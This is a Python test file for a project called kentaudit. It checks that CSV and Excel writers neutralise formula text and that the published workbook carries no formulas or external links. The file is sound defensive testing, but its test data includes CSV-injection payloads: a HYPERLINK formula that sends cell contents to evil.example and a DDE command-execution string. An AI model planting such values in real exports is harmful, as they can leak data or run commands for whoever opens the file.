"""Every CSV and spreadsheet writer neutralises formula text (issue 12, item 2).

The sweep writes hostile labels through each writer kentaudit has - results
tables, the validate report, the sample lists, the restricted and published
appendix CSVs and the published workbook - and reads back what a spreadsheet
would see: no cell begins with formula text, and the workbook holds no
formula cell and no hyperlink other than its own contents links.
"""
from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from kentaudit.core.safetext import (FORMULA_PREFIXES, is_formula_text, neutralise_formula, neutralise_frame)

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "\n=1+1", '{=1+1}', "|cmd", "  =1+1", "http://evil.example/",
           "=cmd|' /C calc'!A0"]


def _cells(path: Path):
    with open(path, newline="", encoding="utf-8") as f:
        for row in csv.reader(f):
            yield from row


def _assert_csv_clean(path: Path):
    bad = [c for c in _cells(path) if is_formula_text(c)]
    assert not bad, f"{path.name}: formula text written as is: {bad[:3]}"


@pytest.mark.parametrize("value", HOSTILE[:-3])
def test_every_hostile_prefix_is_formula_text(value):
    assert is_formula_text(value)
    assert neutralise_formula(value) == "'" + value


def test_neutralise_is_idempotent_and_leaves_numbers():
    assert neutralise_formula(neutralise_formula("=1")) == "'=1"
    assert neutralise_formula(-3) == -3
    assert FORMULA_PREFIXES[0] == "="


def test_neutralise_frame_handles_categoricals_and_headers():
    df = pd.DataFrame({"=h": pd.Categorical(["=x", "ok"]), "n": [-1, 2]})
    out = neutralise_frame(df)
    assert list(out.columns) == ["'=h", "n"]
    assert list(out["'=h"]) == ["'=x", "ok"] and list(out["n"]) == [-1, 2]


def test_results_table_csv_is_neutralised(tmp_path):
    from kentaudit.report.results import save_table

    df = pd.DataFrame({"auditor": HOSTILE, "n": range(len(HOSTILE))})
    save_table(df, "auditor_grades", tmp_path)
    _assert_csv_clean(tmp_path / "auditor_grades.csv")


def test_validate_report_is_neutralised(tmp_path, capsys):
    import sys

    sys.path.insert(0, str(Path(__file__).parents[1] / "bad_input"))
    from make_corpus import to_csv_text, valid_rows
    from kentaudit.inputs.ingest import validate_paths

    rows = valid_rows(len(HOSTILE))
    for r, h in zip(rows, HOSTILE):
        r["district"] = h  # rejected: the value is echoed in rejected.csv
        r["notes"] = h
    p = tmp_path / "hostile.csv"
    p.write_text(to_csv_text(rows), encoding="utf-8")
    validate_paths([p], synthetic=True, report_dir=tmp_path / "report")
    for name in ("reconciliation.csv", "rejected.csv", "file_errors.csv"):
        _assert_csv_clean(tmp_path / "report" / name)


def test_sample_lists_are_neutralised(tmp_path, capsys):
    from kentaudit.inputs.sampling import draw_sample_cli

    frame = pd.DataFrame({"case_ref": [f"SYN-{i:07d}" for i in range(24)],
                          "district": [HOSTILE[i % 2] for i in range(24)],
                          "team": [HOSTILE[i % len(HOSTILE)] for i in range(24)]})
    fp = tmp_path / "frame.csv"
    frame.to_csv(fp, index=False, quoting=csv.QUOTE_NONNUMERIC)
    draw_sample_cli(fp, tmp_path / "out", n=6, seed=1, as_of="2010-08-01")
    for name in ("selection.csv", "allocation.csv"):
        _assert_csv_clean(tmp_path / "out" / name)


@pytest.fixture(scope="module")
def hostile_appendix(formula_appendix):
    """The fake cycle's appendix with a formula for its title (and a reconciliation outcome), built
    once per session (tests/conftest.py, ``formula_appendix``)."""
    return formula_appendix


def test_appendix_csvs_are_neutralised(hostile_appendix):
    files = list(hostile_appendix.restricted_dir.glob("*.csv")) + list(
        (hostile_appendix.publish_dir / "csv").glob("*.csv"))
    assert files
    for f in files:
        _assert_csv_clean(f)


def _workbook_is_inert(path: Path):
    wb = openpyxl.load_workbook(path)  # data_only=False: formulas would show as such
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{ws.title}!{c.coordinate}: formula {c.value!r}"
                if c.hyperlink is not None:
                    assert (c.hyperlink.location or "").startswith("'") or c.hyperlink.target is None, \
                        f"{ws.title}!{c.coordinate}: external hyperlink {c.hyperlink.target!r}"
                assert not is_formula_text(c.value), f"{ws.title}!{c.coordinate}: {c.value!r}"
    return wb


def test_published_workbook_title_is_not_a_formula(hostile_appendix):
    wb = _workbook_is_inert(hostile_appendix.publish_dir / "appendix.xlsx")
    cover = [c.value for row in wb["Cover"].iter_rows() for c in row if c.value]
    assert any(str(v).startswith("'{=HYPERLINK") for v in cover)


def test_workbook_writer_neutralises_hostile_labels_and_urls(tmp_path):
    from kentaudit.publication.writers.xlsx import write_xlsx
    from kentaudit.publication.table import AppendixContent, Column, PublicationTable

    data = pd.DataFrame({"district": HOSTILE, "n_files": range(10, 10 + len(HOSTILE))})
    t = PublicationTable("T1", "Files by district", data,
                         [Column("district", "District", "label"),
                          Column("n_files", "Files", "count", unit="count")],
                         scope="{=1+1}", source="http://evil.example/")
    content = AppendixContent(title="{=1+1}", intro="=HYPERLINK(\"http://x\")", tables=[t],
                              figures=[], notes={}, methods=[("@m", "+d")], caveats=["-c"])
    _workbook_is_inert(write_xlsx(tmp_path / "a.xlsx", content))
